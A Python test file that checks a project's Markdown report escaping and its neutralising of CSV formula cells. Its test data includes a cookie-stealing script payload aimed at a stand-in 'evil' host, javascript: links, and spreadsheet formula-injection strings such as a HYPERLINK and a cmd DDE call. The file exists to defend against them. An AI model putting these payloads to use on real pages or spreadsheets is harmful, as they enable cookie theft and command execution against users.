"""What reports and exports embed is escaped: names as literal Markdown text, never HTML or links;
CSV text cells that a spreadsheet would run as formulas, neutralised with a leading quote."""

from __future__ import annotations

import csv
import io

import pytest

from badnet_prune.orchestrator.exports import to_csv
from badnet_prune.orchestrator.report.markdown import escape, table_markdown
from badnet_prune.orchestrator.report.tables import Table

HOSTILE_NAMES = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil/'+document.cookie)</script>",
    "[click](javascript:alert(1))",
    "![x](http://evil/track.png)",
    "a\n# injected heading",
    "`code` *bold* a|b \\",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_name_is_literal_markdown(name):
    text = escape(name)
    assert "<" not in text and ">" not in text, text
    assert "\n" not in text
    for special in "[]`*|!":
        assert all(text[i - 1] == "\\" for i, c in enumerate(text) if c == special), text


def test_entities_and_ordinary_names_read_back():
    assert escape("bd_net-2 & co") == "bd_net-2 &amp; co"
    assert escape("B' 2%, 3 pruned") == "B' 2%, 3 pruned"
    assert escape("m0") == "m0"


def test_table_cells_are_escaped():
    table = Table("t", ["model", "asr"], [{"model": "<b>x</b>|y", "asr": 1.5}])
    lines = table_markdown(table)
    assert lines[2] == "| &lt;b&gt;x&lt;/b&gt;\\|y | 1.50 |"


FORMULAS = ["=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "\t=1"]


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers():
    rows = [{"name": formula, "value": -1.5, "count": -3} for formula in FORMULAS]
    rows.append({"name": "-2.5e3", "value": 0.25, "count": 7})
    rows.append({"name": "plain name", "value": None, "count": 0})
    back = read_back(to_csv(["name", "value", "count"], rows))
    assert [row["name"] for row in back] == [*("'" + f for f in FORMULAS), "-2.5e3", "plain name"]
    assert [row["value"] for row in back] == ["-1.5"] * len(FORMULAS) + ["0.25", ""]
    assert [row["count"] for row in back] == ["-3"] * len(FORMULAS) + ["7", "0"]


def test_a_cell_starting_with_a_carriage_return_is_neutralised():
    assert to_csv(["a"], [{"a": "\r=1"}]) == "a\n'\r=1\n"


def test_a_formula_column_name_is_neutralised_too():
    back = read_back(to_csv(["=cmd()", "ok"], [{"=cmd()": "a", "ok": "b"}]))
    assert back == [{"'=cmd()": "a", "ok": "b"}]


def test_keys_outside_the_columns_are_left_out():
    assert to_csv(["a"], [{"a": 1, "b": 2}]) == "a\n1\n"
